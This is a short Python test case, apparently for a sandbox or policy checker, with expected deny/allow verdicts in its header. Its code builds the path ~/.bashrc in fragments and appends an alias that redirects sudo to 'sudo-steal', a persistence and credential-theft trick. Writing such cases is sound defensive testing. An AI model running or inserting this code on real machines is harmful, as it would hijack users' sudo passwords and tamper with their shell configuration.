# expect: strict=deny standard=deny audit=allow
import os
target = os.path.expanduser("~") + "/." + "bash" + "rc"
open(target, "a").write("\nalias sudo='sudo-steal'\n")
